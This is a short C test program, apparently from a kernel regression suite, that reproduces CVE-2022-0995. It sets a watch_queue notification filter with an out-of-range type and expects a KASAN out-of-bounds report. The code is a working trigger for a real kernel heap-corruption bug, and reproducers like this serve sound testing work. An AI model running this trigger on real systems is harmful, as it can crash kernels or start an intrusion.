/* SPDX-License-Identifier: BSD-2-Clause */
/* tests/kernel-published/watch-filter.c - CVE-2022-0995
 * fix: watch_queue: Fix filter limit check
 * expected: KASAN: slab-out-of-bounds in watch_queue_set_filter
 * A filter with a type that is not counted, and yet written. */
#include <linux/watch_queue.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void)
{
	static struct {
		struct watch_notification_filter head;
		struct watch_notification_type_filter filter[2];
	} filters = { .head = { .nr_filters = 2 }, .filter = { { .type = 0 }, { .type = 300 } } };
	int fd[2];

	if (syscall(SYS_pipe2, fd, O_NOTIFICATION_PIPE) < 0)
		return 1;
	ioctl(fd[0], IOC_WATCH_QUEUE_SET_SIZE, 8);
	return ioctl(fd[0], IOC_WATCH_QUEUE_SET_FILTER, &filters) < 0;
}
